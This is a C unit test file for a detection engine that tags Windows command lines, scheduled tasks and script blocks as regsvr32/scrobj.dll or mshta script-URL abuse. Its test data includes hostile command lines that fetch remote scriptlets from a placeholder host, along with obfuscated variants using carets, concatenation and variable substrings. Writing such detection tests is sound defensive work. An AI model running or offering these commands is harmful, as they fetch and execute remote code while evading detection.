#include "tests/unit/derive/derived.h"

struct launch_case {
	const char *name, *image, *line, *want;
};

#define CMD    "C:\\Windows\\System32\\cmd.exe"
#define PS     "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
#define LAUNCH "launch.carries="

/* clang-format off */
static struct launch_case cases[] = {
	{ "a URL behind cmd", CMD, "cmd /c regsvr32 /s /u /i:http://h/a.sct scrobj.dll",
	  LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj\n"
	  "launch.command=regsvr32 /s /u /i:http://h/a.sct scrobj.dll" },
	{ "in quotes", CMD, "\"C:\\Windows\\system32\\cmd.exe\" /c \"regsvr32.exe /s /i:https://h/a.sct scrobj.dll\"",
	  LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj" },
	{ "carets in the name", CMD, "cmd /c r^e^gsvr32 /s /i:ht^tp://h/a.sct scr^obj.dll",
	  LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj|caret_name" },
	{ "quotes in the name", CMD, "cmd /c reg\"svr\"32 /s /i:http://h/a scrobj.dll",
	  LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj|caret_name" },
	{ "backticks in the name", PS, "powershell -c reg`svr32 /s /i:http://h/a scrobj.dll",
	  LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj|caret_name" },
	{ "a name of two texts", PS, "powershell -c & ('reg'+'svr32') /s /i:http://h/a scrobj.dll",
	  LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj|caret_name" },
	{ "a name of two texts, with blanks", PS,
	  "powershell -c & ('reg' + \"svr32\") /s /i:http://h/a scrobj.dll",
	  LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj" },
	{ "a list of arguments", PS,
	  "powershell Start-Process regsvr32 -ArgumentList '/s','/u','/i:http://h/a','scrobj.dll'",
	  LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj" },
	{ "the name built of variables", CMD, "cmd /c \"set a=reg&set b=svr32&call %a%%b% /s /i:http://h/a scrobj.dll\"",
	  LAUNCH "url_scrobj|variable" },
	{ "the name built of a part of a variable", CMD, "cmd /c %COMSPEC:~-16,1%egsvr32 /s /i:http://h/a scrobj.dll",
	  LAUNCH "url_scrobj|variable" },
	{ "arguments handed over", "C:\\Windows\\System32\\pcalua.exe",
	  "pcalua.exe -a regsvr32.exe -c \"/s /u /i:http://h/a.sct scrobj.dll\"",
	  LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj" },
	{ "a share", "C:\\Windows\\System32\\wbem\\WMIC.exe",
	  "wmic process call create \"regsvr32 /s \\\\h\\s\\a.dll\"", LAUNCH "regsvr32|regsvr32_unc" },
	{ "a path of the user", "C:\\Windows\\System32\\schtasks.exe",
	  "schtasks /create /tr \"regsvr32.exe -s \\\"C:\\Users\\b\\AppData\\Roaming\\a.dll\\\"\" /sc once",
	  LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "a path of the user by PowerShell's name for it", PS,
	  "powershell regsvr32 /s $env:TEMP\\a.dll", LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "a path with blanks is not cut in two", CMD,
	  "cmd /c regsvr32 /s \"C:\\Program Files\\Vendor X\\app.dll\"", LAUNCH "regsvr32" },
	{ "a path with blanks and dots", CMD,
	  "cmd /c regsvr32 /s \"C:\\Program Files\\V\\..\\..\\ProgramData\\a.dll\"",
	  LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "another command behind it is not its argument", CMD,
	  "cmd /c regsvr32 /s C:\\Windows\\System32\\a.dll & del C:\\Users\\b\\AppData\\Local\\Temp\\x.txt",
	  LAUNCH "regsvr32" },
	{ "scrobj registered anew", CMD, "cmd /c regsvr32 /s scrobj.dll", LAUNCH "regsvr32" },
	{ "a mention in a file's name", CMD, "cmd /c type regsvr32_scrobj_install.log", LAUNCH "-" },
	{ "a program of a like name", CMD, "cmd /c myregsvr32 /s /i:http://h/a", LAUNCH "-" },
	{ "a search", CMD, "cmd /c dir c:\\windows\\system32\\regsvr32.exe", LAUNCH "-" },
	{ "an editor", "C:\\Windows\\System32\\notepad.exe",
	  "notepad regsvr32 /s /i:http://h/a scrobj.dll", LAUNCH "-" },
	{ "a moniker", "C:\\Windows\\System32\\mshta.exe",
	  "mshta javascript:a=GetObject(\"script:https://h/m.sct\").Exec();close();", LAUNCH "script_url" },
	{ "nothing of the kind", CMD, "cmd /c echo hello & dir /s /i", LAUNCH "-" },
};

static struct {
	const char *name;
	uint32_t field;
	const char *value, *want;
} stored[] = {
	{ "a task", SQ_F_TASK_CONTENT,
	  "<Task><Actions><Exec><Command>regsvr32.exe</Command><Arguments>/s /i:http://h/a scrobj.dll</Arguments>"
	  "</Exec></Actions></Task>", LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj" },
	{ "a task whose arguments hold entities", SQ_F_TASK_CONTENT,
	  "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task>\r\n<Command>cmd</Command>\r\n"
	  "<Arguments>/c &quot;regsvr32&quot; /s &#47;i:http:&#x2F;/h/a scrobj.dll</Arguments></Task>",
	  LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj" },
	{ "a task, escaped once more", SQ_F_TASK_CONTENT,
	  "&lt;Task&gt;&lt;Command&gt;regsvr32&lt;/Command&gt;&lt;Arguments&gt;/s c:\\programdata\\a.dll"
	  "&lt;/Arguments&gt;&lt;/Task&gt;", LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "another task", SQ_F_TASK_CONTENT,
	  "<Task><Exec><Command>\"C:\\Program Files\\V\\update.exe\"</Command></Exec></Task>", LAUNCH "-" },
	{ "a service", SQ_F_SERVICE_FILE_NAME, "C:\\Windows\\System32\\regsvr32.exe /s C:\\ProgramData\\a.dll",
	  LAUNCH "regsvr32|regsvr32_user_writable" },
	{ "a script", SQ_F_SCRIPT_BLOCK_TEXT, ".\\regsvr32.exe /s /n /u /i:http://h:8444/l.sct scrobj.dll",
	  LAUNCH "regsvr32|regsvr32_url|regsvr32_scrobj" },
	{ "a lawful script", SQ_F_SCRIPT_BLOCK_TEXT, "& regsvr32 /s 'C:\\Program Files\\V\\app.dll'",
	  LAUNCH "regsvr32" },
	{ "a registration of scrobj", SQ_F_DETAILS, "%SystemRoot%\\SysWOW64\\ScrObj.dll", LAUNCH "scrobj" },
	{ "a number", SQ_F_DETAILS, "DWORD (0x00000001)", LAUNCH "-" },
};
/* clang-format on */

static void check_launch(void **state)
{
	const struct launch_case *tc = *state;
	struct derived d;

	derived_init(&d);
	derived_put(&d, SQ_F_IMAGE, tc->image);
	derived_put(&d, SQ_F_COMMAND_LINE, tc->line);
	sq_derive(&d.ev, &d.arena, SQ_DERIVE_ALL);
	assert_string_equal(derived_wrong(&d, tc->want), "");
	derived_fini(&d);
}

static void stored_commands_are_read_too(void **state)
{
	(void)state;
	for (size_t i = 0; i < SQ_LEN(stored); i++) {
		struct derived d;

		print_message("%s\n", stored[i].name);
		derived_init(&d);
		d.ev.category = SQ_CATEGORY_NONE;
		derived_put(&d, stored[i].field, stored[i].value);
		sq_derive(&d.ev, &d.arena, SQ_DERIVE_ALL);
		assert_string_equal(derived_wrong(&d, stored[i].want), "");
		derived_fini(&d);
	}
}

int main(void)
{
	const struct CMUnitTest others[] = { cmocka_unit_test(stored_commands_are_read_too) };

	return RUN_TABLE("derive/launch", cases, check_launch) +
	       cmocka_run_group_tests_name("derive/launch stored", others, NULL, NULL);
}
